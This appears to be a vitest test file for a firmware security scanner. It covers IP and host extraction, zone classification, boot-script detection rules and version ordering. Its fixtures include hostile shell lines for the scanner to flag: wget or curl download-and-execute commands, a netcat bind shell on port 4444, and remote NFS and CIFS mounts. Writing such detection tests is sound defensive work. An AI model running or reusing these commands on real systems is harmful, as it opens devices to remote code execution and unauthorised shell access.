// Address extraction and zones (DESIGN.md "Zones"), version lookalikes, and the line rules.
import { describe, expect, it } from 'vitest';
import { findAddresses, zoneOfHost } from '../../src/firmware/addresses.js';
import { compareVersions } from '../../src/firmware/osv.js';
import type { Finding } from '../../src/firmware/types.js';
import { type ScriptContext, scanMounts, scanScript } from '../../src/firmware/rules.js';

const hits = (s: string) => findAddresses(s, { hostNames: true }).map((h) => [h.address, h.kind, h.zone]);

describe('findAddresses', () => {
  it('classifies IPv4 literals as site, outside or special', () => {
    expect(hits('server=198.51.100.4 gw 10.1.2.3 lo 127.0.0.1 any 0.0.0.0 mask 255.255.255.0 cgn 100.64.0.9')).toEqual([
      ['198.51.100.4', 'ipv4', 'outside'],
      ['10.1.2.3', 'ipv4', 'site'],
      ['127.0.0.1', 'ipv4', 'special'],
      ['0.0.0.0', 'ipv4', 'special'],
      ['100.64.0.9', 'ipv4', 'site'],
    ]);
  });

  it('does not report a netmask as an address: by its shape, or by the word before it', () => {
    expect(hits('ifconfig eth0 192.168.10.20 netmask 255.255.255.0 up')).toEqual([['192.168.10.20', 'ipv4', 'site']]);
    expect(hits('route add -net 10.0.0.0 netmask 255.0.0.0 gw 10.0.0.1')).toEqual([
      ['10.0.0.0', 'ipv4', 'site'],
      ['10.0.0.1', 'ipv4', 'site'],
    ]);
    expect(hits('mask=128.0.0.0 peer 203.0.113.9')).toEqual([['203.0.113.9', 'ipv4', 'outside']]);
  });

  it('skips version numbers, OIDs, dates and out-of-range octets', () => {
    expect(
      hits('BusyBox v1.2.3.4 version 2.6.32.1 libuClibc-0.9.33.2.so OID 1.3.6.1.4.1.2021 01.02.2019.1 300.1.1.1'),
    ).toEqual([]);
  });

  it('keeps a trailing full stop out of the address', () => {
    expect(hits('contact 203.0.113.9.')).toEqual([['203.0.113.9', 'ipv4', 'outside']]);
  });

  it('finds IPv6 literals but not C++ scopes, times or MACs', () => {
    expect(hits('dns 2001:db8::53 link fe80::1 std::string 12:30:45 00:11:22:33:44:55 ::1')).toEqual([
      ['2001:db8::53', 'ipv6', 'outside'],
      ['fe80::1', 'ipv6', 'site'],
      ['::1', 'ipv6', 'special'],
    ]);
  });

  it('finds URLs (host reported once) and host names with real TLDs', () => {
    expect(hits('wget http://update.example.com/fw.bin; ntp pool.ntp.org lib libc.so.6 file config.sh')).toEqual([
      ['update.example.com', 'url', 'outside'],
      ['pool.ntp.org', 'host', 'outside'],
    ]);
    expect(hits('tftp://[2001:db8::5]/boot nfs://192.168.1.2/x')).toEqual([
      ['2001:db8::5', 'url', 'outside'],
      ['192.168.1.2', 'url', 'site'],
    ]);
  });

  it('puts site-suffix names in the site zone', () => {
    expect(zoneOfHost('central.ward.local')).toBe('site');
    expect(zoneOfHost('localhost')).toBe('special');
    expect(zoneOfHost('example.net')).toBe('outside');
  });
});

function rules(rel: string, text: string, mounts: ScriptContext = { remoteMounts: new Map() }): unknown[] {
  const out: Finding[] = [];
  const file = { rel, lines: text.split('\n') };
  scanMounts(file, mounts, (f) => out.push(f));
  scanScript(file, mounts, (f) => out.push(f));
  return out.map((f) => [f.id, f.severity, f.line, f.address ?? null]);
}

describe('boot-script rules', () => {
  it('sees download-and-run across lines and through a pipe', () => {
    expect(rules('etc/init.d/S99up', '#!/bin/sh\nwget -O /tmp/u http://198.51.100.7/u\nchmod +x /tmp/u\n')).toEqual([
      ['fw.remote-exec', 'critical', 2, '198.51.100.7'],
    ]);
    expect(rules('usr/bin/up.sh', 'curl -s https://update.example.com/i | sh\n')).toEqual([
      ['fw.remote-exec', 'critical', 1, 'update.example.com'],
    ]);
  });

  it('reads fstab remote mounts and copies from them in another file', () => {
    const ctx: ScriptContext = { remoteMounts: new Map() };
    expect(
      rules('etc/fstab', '198.51.100.2:/export /data nfs defaults 0 0\n/dev/mtd1 / jffs2 defaults 0 0\n', ctx),
    ).toEqual([['fw.remote-mount', 'critical', 1, '198.51.100.2']]);
    expect(rules('etc/init.d/rcS', '#!/bin/sh\ncp -a /data/bin/app /usr/bin/app\n/usr/bin/app &\n', ctx)).toEqual([
      ['fw.remote-exec', 'critical', 2, '198.51.100.2'],
    ]);
  });

  it('finds cifs mounts, ip link up, udhcpc, inetd telnet, bind shells, and ignores killall telnetd', () => {
    expect(
      rules(
        'etc/init.d/rcS',
        '#!/bin/sh\nmount -t cifs //files.example.com/share /mnt/s -o guest\nip link set dev eth1 up\nudhcpc -i eth0\nkillall telnetd\nnc -l -p 4444 -e /bin/sh &\n',
      ),
    ).toEqual([
      ['fw.remote-mount', 'critical', 2, 'files.example.com'],
      ['fw.interface-up', 'low', 3, null],
      ['fw.interface-up', 'low', 4, null],
      ['fw.debug-interface', 'high', 6, null],
    ]);
    expect(
      rules(
        'etc/inetd.conf',
        '# comment\ntelnet stream tcp nowait root /usr/sbin/telnetd telnetd\ntftp dgram udp wait root /usr/sbin/tftpd tftpd\n',
      ),
    ).toEqual([
      ['fw.insecure-service', 'high', 2, null],
      ['fw.insecure-service', 'medium', 3, null],
    ]);
  });
});

describe('compareVersions', () => {
  it('orders dotted versions with letter suffixes and pre-releases', () => {
    expect(compareVersions('1.0.2k', '1.0.2')).toBe(1);
    expect(compareVersions('1.0.2k', '1.0.2l')).toBe(-1);
    expect(compareVersions('1.20.2', '1.9.0')).toBe(1);
    expect(compareVersions('1.0.0-rc1', '1.0.0')).toBe(-1);
    expect(compareVersions('2019.78', '2019.78')).toBe(0);
  });
});
